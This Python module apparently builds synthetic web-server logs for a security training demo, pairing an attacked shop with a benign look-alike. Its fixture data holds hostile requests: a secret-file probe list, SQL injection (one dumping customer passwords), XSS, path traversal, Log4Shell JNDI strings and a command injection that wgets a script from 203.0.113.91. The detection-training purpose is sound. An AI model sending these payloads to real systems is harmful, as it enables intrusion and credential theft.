"""A shop's web server: scanned, probed, injected into, guessed at; and what only looks like it."""

from __future__ import annotations

from socterm.demo.model import Story
from socterm.demo.noise_web import GOODS, NOISE
from socterm.demo.pen_web import ACCESS, BROWSERS, Client, WebPen
from socterm.demo.sheet import Sheet
from socterm.demo.stories.truth_web import (
    ANSWERED,
    API_GUESSER,
    CRAWLER,
    CURIOUS,
    DIRB,
    FORGETFUL,
    INJECTOR,
    MONITOR,
    OFFICE_NAT,
    PROBER,
    ROTATOR,
    STALE_APP,
    UPGRADED,
    WEB_ATTACK,
    WEB_BENIGN,
    WP_GUESSER,
)

# Names of folders as lists for guessing have them; none of them is a file that must not be there.
_WORDS = (
    "about-us", "account", "accounts", "admin", "administrator", "ajax", "alpha", "api", "app", "apps",
    "archive", "assets", "auth", "beta", "billing", "blog", "bin", "cart", "catalog", "cdn", "checkout",
    "client", "clients", "cms", "common", "console", "content", "core", "css", "customer", "dashboard",
    "data", "demo", "dev", "docs", "download", "editor", "en", "events", "export", "extra", "feed",
    "files", "forum", "gallery", "global", "help", "home", "hidden", "images", "img", "include", "info",
    "install", "internal", "intranet", "invoice", "lab", "legacy", "lib", "list", "mail", "manage",
    "member", "mobile", "modules", "new1", "news", "old1", "panel", "partner", "portal", "preview",
    "private", "public1", "reports", "secure", "staging", "stats", "test",
)  # fmt: skip
_SECRETS = (
    "/.env", "/.git/config", "/wp-config.php.bak", "/.aws/credentials", "/backup.sql", "/.svn/entries",
    "/.htpasswd", "/id_rsa", "/config/database.yml",
)  # fmt: skip
_INJECTIONS = (
    ("/search?q=%27%20OR%20%271%27%3D%271", 403),
    ("/search?q=1%27%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-", 403),
    ("/goods/oak-table?id=12%20AND%20SLEEP%285%29", 403),
    ("/goods/oak-table?id=12%29%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--", 403),
    ("/goods/oak-table?id=-1+union+all+select+1,concat(0x7e,version(),0x7e),3", 500),
    ("/search?q=%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E", 403),
    ("/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E", 403),
    ("/search?q=javascript:alert(1)//", 403),
    ("/media/../../../../../../etc/passwd", 400),
    ("/media/..%2f..%2f..%2f..%2fetc%2fpasswd", 400),
    ("/media/%2e%2e/%2e%2e/%2e%2e/etc/shadow", 400),
    ("/download?file=..%252f..%252f..%252fetc%252fpasswd", 403),
    ("/download?file=....//....//....//windows/win.ini", 404),
    ("/?x=${jndi:ldap://203.0.113.91:1389/a}", 400),
    ("/?x=%24%7Bjndi%3A%24%7Blower%3Al%7Ddap%3A%2F%2F203.0.113.91%2Fb%7D", 400),
    ("/search?q=%7B%7B7*7%7D%7D", 403),
    ("/search?q=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", 403),
    ("/contact?name=%3Bcat%20%2Fetc%2Fpasswd", 403),
    ("/contact?name=%60id%60%26%26wget%20http%3A%2F%2F203.0.113.91%2Fx.sh", 403),
    ("/index.php?page=php://filter/convert.base64-encode/resource=config", 404),
)
_ANSWERED = (
    ("/download?file=..%2f..%2fetc%2fpasswd", 403, 153),
    ("/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 403, 153),
    ("/goods/desk-lamp?id=7%27", 500, 1290),
    ("/goods/desk-lamp?id=7%20UNION%20SELECT%20NULL,NULL--%20-", 500, 1290),
    ("/download?file=..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", 200, 1842),
    ("/goods/desk-lamp?id=-7%20UNION%20SELECT%20email,password,NULL%20FROM%20customers--%20-", 200, 61327),
)
_WORDED = (
    "/search?q=select+a+table+from+our+range", "/search?q=union+jack+cushion", "/search?q=o%27hara+chair",
    "/search?q=drop+leaf+table", "/search?q=script+font+poster", "/search?q=lamp+50%25+off",
    "/goods/oak-table?sort=price&order=asc&page=2", "/search?q=%3C+100+euro", "/search?q=1+or+2+seats",
    "/blog/how-to-select-a-table-from-oak", "/search?q=cat+bed+%26+bin+wood",
    "/goods/wool-rug?size=200x300;colour=red", "/search?q=exec+desk+%2F+etc",
)  # fmt: skip
_GONE = (
    "/static/css/app.1b2c3d4e.css", "/static/js/app.5e6f7a8b.js", "/static/js/vendor.c9d0e1f2.js",
    "/static/js/cart.77aa88bb.js", "/static/js/search.0f0e0d0c.js", "/static/img/sprite.3a3b3c3d.svg",
    "/static/fonts/inter-v12-latin.woff2",
)  # fmt: skip
_DOORS = (
    "/admin/login", "/administrator/", "/user/login", "/backend", "/cms/login", "/panel/", "/login.php",
    "/signin", "/manage/login",
)  # fmt: skip
_REST = 153


def _scan(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(DIRB, "gobuster/3.8")
    for number, word in enumerate(_WORDS):
        there = word in ("api", "blog", "admin")
        status = 301 if there else 404
        pen.request(180 + 0.5 * number, client, f"/{word}", status=status, size=_REST, version="1.1")


def _probe(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(PROBER, BROWSERS[1])
    for number, path in enumerate(_SECRETS):
        status = 403 if path.startswith("/.") and path != "/.env" else 404
        pen.request(260 + 20 * number, client, path, status=status, size=_REST, version="1.1")


def _injection(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(INJECTOR, BROWSERS[0])
    for number, (path, status) in enumerate(_INJECTIONS):
        pen.request(300 + 4.2 * number, client, path, status=status, size=_REST, version="1.1")


def _answered(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(ANSWERED, BROWSERS[5])
    pen.request(420, client, "/goods/desk-lamp", size=21877)
    for number, (path, status, size) in enumerate(_ANSWERED):
        pen.request(431 + 9.0 * number, client, path, status=status, size=size, version="1.1")


def _wp_login(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(WP_GUESSER, BROWSERS[0])
    pen.request(500, client, "/blog/wp-login.php", size=6120, version="1.1")
    for number in range(40):
        pen.request(503 + 2.4 * number, client, "/blog/wp-login.php", method="POST", size=6488, version="1.1")


def _api_login(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(API_GUESSER, "python-requests/2.32.5")
    for number in range(30):
        pen.request(
            640 + 3.0 * number, client, "/api/v1/login", method="POST", status=401, size=61, version="1.1"
        )


def _rotating(sheet: Sheet) -> None:
    pen = WebPen(sheet)
    for number in range(30):
        agent = f"Mozilla/5.0 (Windows NT 10.0; rv:{90 + number}.0) Gecko/20100101 Firefox/{90 + number}.0"
        client, path = Client(ROTATOR, agent), _DOORS[number % len(_DOORS)]
        pen.request(560 + 10.0 * number, client, path, status=404, size=_REST, version="1.1")


def _crawler(sheet: Sheet) -> None:
    agent = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    pen, client = WebPen(sheet), Client(CRAWLER, agent)
    pen.request(12, client, "/robots.txt", size=214, version="1.1")
    for number in range(150):
        gone = number % 8 == 3
        path = f"/goods/{GOODS[number % len(GOODS)]}{f'-{number}' if gone else ''}"
        size = _REST if gone else 18000 + 97 * number
        pen.request(16 + 4.0 * number, client, path, status=404 if gone else 200, size=size, version="1.1")


def _monitor(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(MONITOR, "check_http/v2.4.12 (monitoring-plugins 2.4.12)")
    for number in range(30):
        pen.request(5 + 30 * number, client, "/healthz", size=2, version="1.1")


def _upgrade(sheet: Sheet) -> None:
    """Pages that were open or cached before the upgrade still name the old files."""
    pen, rng = WebPen(sheet), sheet.rng
    for number, address in enumerate(UPGRADED):
        client, at = Client(address, BROWSERS[number % 5]), 200 + 23.0 * number
        pen.request(at, client, "/", status=304)
        for path in _GONE:
            pen.request(at + 0.2 + rng.random(), client, path, status=404, size=_REST, referrer="/")


def _office(sheet: Sheet) -> None:
    pen, rng = WebPen(sheet), sheet.rng
    for number in range(40):
        client = Client(OFFICE_NAT, BROWSERS[number % len(BROWSERS)])
        pen.request(
            40 + 19.0 * number + rng.random(), client, f"/goods/{GOODS[number % 16]}", size=19900 + number
        )


def _words(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(CURIOUS, BROWSERS[2])
    for number, path in enumerate(_WORDED):
        pen.request(330 + 17.0 * number, client, path, size=12000 + 401 * number, referrer="/")


def _stale_token(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(STALE_APP, "ShopApp/5.2 (Android 16)")
    for number in range(24):
        pen.request(60 + 30.0 * number, client, "/api/v1/notifications", status=401, size=48)


def _mistyped(sheet: Sheet) -> None:
    pen, client = WebPen(sheet), Client(FORGETFUL, BROWSERS[1])
    for number, status in enumerate((401, 401, 401, 200)):
        pen.request(410 + 11.0 * number, client, "/api/v1/login", method="POST", status=status, size=61)
    for number, status in enumerate((200, 200, 302)):
        pen.request(
            620 + 14.0 * number, client, "/blog/wp-login.php", method="POST", status=status, size=6488
        )


STORIES = (
    Story(
        name="web_attack",
        says="a shop is scanned, probed, injected into (twice with success), and passwords are tried",
        logs=(ACCESS,),
        length=900.0,
        chapters=WEB_ATTACK.chapters(_scan, _probe, _injection, _answered, _wp_login, _api_login, _rotating),
        noise=NOISE,
        alerts=WEB_ATTACK.alerts,
        quiet=WEB_ATTACK.quiet,
    ),
    Story(
        name="web_visitors",
        says="a crawler, monitoring, an upgrade with dead links, an office, odd searches, mistyped passwords",
        logs=(ACCESS,),
        length=900.0,
        chapters=WEB_BENIGN.chapters(_crawler, _monitor, _upgrade, _office, _words, _stale_token, _mistyped),
        noise=NOISE,
        quiet=WEB_BENIGN.quiet,
        twin_of="web_attack",
    ),
)
